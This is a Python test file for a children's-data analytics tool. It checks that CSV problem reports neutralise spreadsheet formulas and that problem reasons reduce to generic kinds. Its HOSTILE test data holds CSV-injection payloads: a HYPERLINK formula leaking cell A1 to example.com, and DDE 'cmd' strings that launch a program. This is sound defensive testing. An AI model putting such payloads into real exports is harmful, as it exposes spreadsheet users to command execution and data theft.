"""The problem reports: every problem, as CSV a spreadsheet can open safely, and JSON."""

import csv
import json

from smeaton.analytics import reports

HOSTILE = {
    "child": '=HYPERLINK("http://example.com/?"&A1,"Click")',
    "SEX": "+cmd|' /C calc'!A0",
    "ETHNIC": "@SUM(1+1)*cmd",
    "UPN": "-2+3+cmd|' /C calc'!A0",
}


def test_problems_csv_neutralises_formulae_in_values_and_child_ids(write, load, tmp_path):
    child = HOSTILE["child"].replace('"', '""')
    result = load(write("2018/header.csv", "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB",
                        f'"{child}",{HOSTILE["SEX"]},01/02/2010,{HOSTILE["ETHNIC"]},'
                        f'"{HOSTILE["UPN"]}",,', "C2,1,-5,WBRI,UN1,,"), la_code="879")
    csv_path, json_path = reports.write(result, tmp_path / "report")
    with csv_path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    by_column = {row["column"]: row for row in rows}
    for column in ("SEX", "ETHNIC", "UPN"):
        assert by_column[column]["value"] == "'" + HOSTILE[column]
        assert by_column[column]["child"] == "'" + HOSTILE["child"]
    assert by_column["DOB"]["value"] == "-5"  # a number is not a formula
    # problems.json is not opened by spreadsheets: it keeps the values as given.
    held = json.loads(json_path.read_text())["problems"]
    assert {problem["child"] for problem in held} == {HOSTILE["child"], "C2"}


def test_a_problem_kind_is_its_reason_without_particulars():
    from smeaton.analytics.problems import kind

    assert kind("overlaps the next episode, which starts 11/01/2018 (row 313)") == \
        kind("overlaps the next episode, which starts 02/10/2017 (row 1554)") == \
        "overlaps the next episode, which starts … (row …)"
    assert kind("after the end of the 2024 collection year (31 March 2024)") == \
        "after the end of the … collection year (… March …)"
    assert kind("the column 'CHILD ID' appears twice") == "the column … appears twice"
    assert kind("not a valid SSDA903 code") == "not a valid SSDA903 code"
